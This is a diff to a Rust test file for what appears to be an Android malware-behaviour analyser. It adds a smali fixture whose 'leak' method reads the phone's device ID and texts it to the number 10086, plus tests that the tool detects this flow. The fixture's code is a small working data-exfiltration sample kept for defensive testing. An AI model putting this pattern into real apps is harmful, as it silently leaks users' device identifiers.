@@ -107,6 +107,39 @@ const SOURCES: &[(&str, &str)] = &[
 .end method
 "#,
     ),
+    (
+        "Leak.smali",
+        r#".class public Lcom/example/Leak;
+.super Ljava/lang/Object;
+.method public static leak(Landroid/telephony/TelephonyManager;Landroid/telephony/SmsManager;)V
+    .registers 10
+    invoke-virtual {p0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
+    move-result-object v6
+    new-instance v7, Ljava/lang/StringBuilder;
+    invoke-direct {v7}, Ljava/lang/StringBuilder;-><init>()V
+    invoke-virtual {v7, v6}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+    invoke-virtual {v7}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v3
+    move-object v0, p1
+    const-string v1, "10086"
+    const/4 v2, 0x0
+    const/4 v4, 0x0
+    const/4 v5, 0x0
+    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
+    return-void
+.end method
+.method public static noflow(Landroid/telephony/TelephonyManager;Landroid/location/LocationManager;)V
+    .registers 6
+    invoke-virtual {p0}, Landroid/telephony/TelephonyManager;->getSubscriberId()Ljava/lang/String;
+    move-result-object v0
+    const-string v0, "overwritten"
+    new-instance v1, Ljava/net/URL;
+    const-string v2, "https://api.example.cn/ping"
+    invoke-direct {v1, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    return-void
+.end method
+"#,
+    ),
 ];
 
 #[test]
@@ -162,5 +195,30 @@ fn trivial_overrides_and_constant_flow() {
         "a parameter overwrote the constant: {strong:?}"
     );
     assert_eq!(ind["code.crypto.constant_key"].as_array().unwrap().len(), 1);
+
+    // Behaviours: the device ID reaches sendTextMessage through a StringBuilder (stage 5); the
+    // IMSI is read before a URL is built, but the register is overwritten first (stage 4 only).
+    let behaviours = medshield_calls::Behaviours::builtin(&catalog).unwrap();
+    let perms: Vec<String> = [
+        "android.permission.READ_PHONE_STATE",
+        "android.permission.SEND_SMS",
+        "android.permission.INTERNET",
+    ]
+    .iter()
+    .map(|p| p.to_string())
+    .collect();
+    let found = behaviours.evaluate(&facts, &perms);
+    let stage = |id: &str| found.iter().find(|b| b.id == id).map(|b| b.stage);
+    assert_eq!(stage("device_id_to_sms"), Some(5), "{found:#?}");
+    assert_eq!(
+        found
+            .iter()
+            .find(|b| b.id == "device_id_to_sms")
+            .unwrap()
+            .caller
+            .as_deref(),
+        Some("Lcom/example/Leak;->leak")
+    );
+    assert_eq!(stage("imsi_to_url"), Some(4), "{found:#?}");
     std::fs::remove_dir_all(&dir).unwrap();
 }
